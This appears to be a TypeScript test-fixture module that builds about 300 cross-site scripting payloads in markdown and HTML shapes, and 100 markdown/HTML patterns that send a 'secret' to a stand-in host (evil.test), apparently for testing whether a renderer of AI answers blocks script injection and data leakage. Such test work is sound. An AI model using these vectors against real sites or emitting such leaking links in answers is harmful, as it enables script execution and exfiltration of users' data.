/** URLs that run a script in a careless renderer. X stands for the script. */
const urls = [
  'javascript:X',
  'JaVaScRiPt:X',
  'java\tscript:X',
  'java\nscript:X',
  '\u0001javascript:X',
  ' javascript:X',
  'javascript&colon;X',
  'javascript&#58;X',
  '&#106;avascript:X',
  '&#x6A;&#x61;vascript:X',
  'javascript://a.test/%0aX',
  'vbscript:X',
  'data:text/html,<script>X</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=X>',
  'blob:https://a.test/1',
  'file:///etc/passwd',
  'feed:javascript:X',
  'view-source:javascript:X',
  '//a.test/%0ajavascript:X',
] as const;

const urlShapes = [
  (url: string) => `[a](${url})`,
  (url: string) => `[a](<${url}>)`,
  (url: string) => `![a](${url})`,
  (url: string) => `<${url}>`,
  (url: string) => `[a][b]\n\n[b]: ${url}`,
  (url: string) => `[1](${url})`,
  (url: string) => `[^1]\n\n[^1]: [a](${url})`,
  (url: string) => `| [a](${url}) |\n| - |`,
  (url: string) => `[a](${url} "onmouseover=X")`,
] as const;

const elements = [
  '<script>X</script>',
  '<img src=x onerror=X>',
  '<svg onload=X>',
  '<svg><script>X</script></svg>',
  '<svg><a xlink:href="javascript:X"><text>a</text></a></svg>',
  '<math><mtext><img src=x onerror=X></mtext></math>',
  '<math href="javascript:X">a</math>',
  '<iframe src="javascript:X"></iframe>',
  '<iframe srcdoc="<script>X</script>"></iframe>',
  '<object data="javascript:X"></object>',
  '<embed src="javascript:X">',
  '<a href="javascript:X">a</a>',
  '<form action="javascript:X"><button>a</button></form>',
  '<button formaction="javascript:X">a</button>',
  '<input autofocus onfocus=X>',
  '<details open ontoggle=X>a</details>',
  '<video><source onerror=X></video>',
  '<audio src=x onerror=X>',
  '<body onload=X>',
  '<style>@import "javascript:X"</style>',
  '<style>*{background:url(javascript:X)}</style>',
  '<link rel=stylesheet href="javascript:X">',
  '<meta http-equiv=refresh content="0;javascript:X">',
  '<base href="javascript:X//">',
  '<marquee onstart=X>a</marquee>',
  '<template><script>X</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=X>"></noscript>',
  '<!--><img src=x onerror=X>-->',
  '<![CDATA[<script>X</script>]]>',
  '<?xml-stylesheet href="javascript:X"?>',
] as const;

const elementShapes = [
  (html: string) => html,
  (html: string) => `text ${html} text`,
  (html: string) => `> ${html}`,
  (html: string) => `\`\`\`html\n${html}\n\`\`\`\n\n${html}`,
] as const;

const script = 'globalThis.ran=1';

/** 300 shapes of cross-site scripting. */
export const payloads: readonly string[] = [
  ...urls.flatMap((url) => urlShapes.map((shape) => shape(url))),
  ...elements.flatMap((html) => elementShapes.map((shape) => shape(html))),
].map((shape) => shape.replaceAll('X', script));

const hosts = [
  'https://evil.test/p?q=secret',
  '//evil.test/p?q=secret',
  '\\\\evil.test\\p?q=secret',
  'HTTP://user:pass@secret.evil.test:8443/p',
  'ftp://evil.test/p?q=secret',
] as const;

/** 100 shapes in which showing an answer would leak what it knows to a foreign host. */
export const exfiltrations: readonly string[] = hosts.flatMap((host) => [
  `![](${host})`,
  `![a](${host} "${host}")`,
  `![a][r]\n\n[r]: ${host} "title"`,
  `[![a](${host})](https://b.test)`,
  `[a](${host} "${host}")`,
  `<${host}>`,
  `See ${host}, or www.evil.test/?q=${host}.`,
  `<img src="${host}" srcset="${host} 2x">`,
  `<link rel="prefetch dns-prefetch" href="${host}">`,
  `<style>@import "${host}"; body { background: url(${host}) }</style>`,
  `<p style="background: url('${host}')">a</p>`,
  `<svg><image href="${host}"/><use href="${host}#a"/></svg>`,
  `![a](data:image/svg+xml,%3Csvg%3E%3Cimage%20href='${host}'/%3E%3C/svg%3E)`,
  `| ![a](${host}) |\n| - |\n| ![b](<${host}>) |`,
  `$$\\includegraphics{${host}} \\href{${host}}{x} \\url{${host}}$$`,
  `Noted[^1].\n\n[^1]: ![a](${host})`,
  `\`\`\`${host}\n![a](${host})\n\`\`\``,
  `So it is [1](${host}).`,
  `[A film](https://youtu.be/dQw4w9WgXcQ?u=${host})`,
  `<iframe src="${host}"></iframe><video poster="${host}"></video><object data="${host}"></object>`,
]);
